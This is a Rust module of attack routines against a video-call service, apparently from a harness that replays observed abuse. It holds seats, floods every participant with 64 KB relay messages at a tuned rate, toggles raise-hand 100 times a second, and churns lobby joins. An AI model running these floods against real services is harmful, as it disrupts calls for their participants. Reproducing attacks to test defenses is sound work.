//! Attacks from within a call, or from its lobby.

use std::time::Duration;

use anyhow::Result;
use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::json;

use super::{device::Device, state::AttackRun};

/// The longest message that the service relays.
const BODY: usize = 64 * 1024;
/// As many relays in a second as one device was allowed when the attack was first seen.
const RELAYS: u32 = 30;
/// The number of times a hand is raised or lowered in a second.
const HANDS: u32 = 100;

/// Takes a seat and keeps it.
pub(super) async fn stay(attacker: &AttackRun, presentation: &str) -> Result<()> {
    Device::join(attacker, presentation).await?.stay().await
}

/// Relays long messages to all as the first device; the others only receive.
pub(super) async fn relay(attacker: &AttackRun, slot: u32) -> Result<()> {
    let device = Device::join(attacker, attacker.target.member(slot)?).await?;
    if slot > 0 {
        return device.stay().await;
    }
    let message = json!({ "type": "relay", "to": "all", "body": STANDARD.encode([0; BODY]) });
    let pace = Duration::from_secs(1) / RELAYS;
    device.repeat(pace, || message.clone()).await
}

/// Raises and lowers the hand of the first device; the others only receive.
pub(super) async fn flap(attacker: &AttackRun, slot: u32) -> Result<()> {
    let device = Device::join(attacker, attacker.target.member(slot)?).await?;
    if slot > 0 {
        return device.stay().await;
    }
    let mut raised = false;
    let next = || {
        raised = !raised;
        json!({ "type": "raise_hand", "raised": raised })
    };
    device.repeat(Duration::from_secs(1) / HANDS, next).await
}

/// Comes to the lobby and leaves it.
pub(super) async fn come_and_go(attacker: &AttackRun) -> Result<()> {
    let mut device = Device::join(attacker, &attacker.target.stranger).await?;
    device.say(&json!({ "type": "leave" })).await?;
    device.close().await
}
